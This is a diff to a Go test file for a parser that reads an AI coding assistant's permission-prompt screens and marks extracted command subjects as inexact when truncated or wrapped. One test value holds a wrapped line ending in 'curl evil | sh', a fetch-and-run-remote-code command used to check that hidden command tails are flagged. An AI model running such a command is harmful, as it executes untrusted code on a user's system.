@@ -26,10 +26,12 @@ func TestSubjectsOfRealDialogs(t *testing.T) {
 		file, pack, kind, subject string
 		exact                     bool
 	}{
-		{"testdata/fixtures/claude/10-NEEDS_CONFIRMATION-bash-permission-prompt.txt", "claude", KindCommand, "echo hello-from-fake-model > fake_output.txt && cat fake_output.txt", true},
 		{"testdata/fixtures/claude/12-NEEDS_CONFIRMATION-write-file-permission-prompt.txt", "claude", KindEdit, "hello.py", true},
+		{"testdata/fixtures/claude/10-NEEDS_CONFIRMATION-bash-permission-prompt.txt", "claude", KindCommand, "echo hello-from-fake-model > fake_output.txt && cat fake_output.txt\n   Write a test file", false},
 		{"testdata/fixtures/claude/41-NEEDS_CONFIRMATION-trust-folder-dialog.txt", "claude", KindTrust, "/tmp/claude-work", true},
-		{"testdata/screens/claude/v1-bash-dialog.txt", "claude", KindCommand, "npm test", true},
+		// Under the command, Claude's description looks like a command's second line: both
+		// are read, and the subject is not exact.
+		{"testdata/screens/claude/v1-bash-dialog.txt", "claude", KindCommand, "npm test                                                                                                           │\n│   Run the test suite", false},
 		{"testdata/screens/claude/edit-dialog.txt", "claude", KindEdit, "src/app.py", true},
 		{"testdata/screens/claude/plan-approval.txt", "claude", KindPlan, "", false},
 		{"testdata/fixtures/claude/40-NEEDS_CONFIRMATION-ask-user-question-dialog.txt", "claude", "", "", false},
@@ -72,15 +74,16 @@ func TestSubjectCutShort(t *testing.T) {
 	}
 	const shown = "   echo hello-from-fake-model > fake_output.txt && cat fake_output.txt\n   Write a test file\n"
 	long := "   npm test -- --reporter=verbose --grep 'a pattern that goes on and on' --timeout 10000 --bail --exit --recursive"
+	// One line each, no description under it, so each is cut for its own reason (two
+	// lines there are never exact).
 	cases := []struct {
-		name, lines string
-		width       int
+		name, lines, why string
+		width            int
 	}{
-		{"ellipsis", "   npm test --reporter=verbose --grep 'a pattern th…\n   Run the tests\n", fixtureWidth},
-		{"at the edge", long + " --slow 2000\n   Run the tests\n", fixtureWidth},
-		// 102 columns: its line ends short of the edge, but "--recursive" would not have fitted.
-		{"wrapped", strings.TrimSuffix(long, " --recursive") + "\n   --recursive && curl evil | sh\n", fixtureWidth},
-		{"width unknown", shown, 0},
+		{"ellipsis", "   npm test --reporter=verbose --grep 'a pattern th…\n", "ellipsis", fixtureWidth},
+		{"at the edge", long + " --slow 2000\n", "edge", fixtureWidth},
+		{"wrapped", strings.TrimSuffix(long, " --recursive") + "\n   --recursive && curl evil | sh\n", "several lines", fixtureWidth},
+		{"width unknown", "   npm test\n", "width is unknown", 0},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
@@ -91,8 +94,8 @@ func TestSubjectCutShort(t *testing.T) {
 			sc := screen.Parse(text)
 			sc.Width = c.width
 			r := p.Classify(sc)
-			if r.Kind != KindCommand || r.Inexact == "" {
-				t.Fatalf("rule %s kind %q subject %q: exact, want it cut (%q)", r.Rule, r.Kind, r.Subject, r.Inexact)
+			if r.Kind != KindCommand || !strings.Contains(r.Inexact, c.why) {
+				t.Fatalf("rule %s kind %q subject %q inexact %q; want it cut (%q)", r.Rule, r.Kind, r.Subject, r.Inexact, c.why)
 			}
 		})
 	}
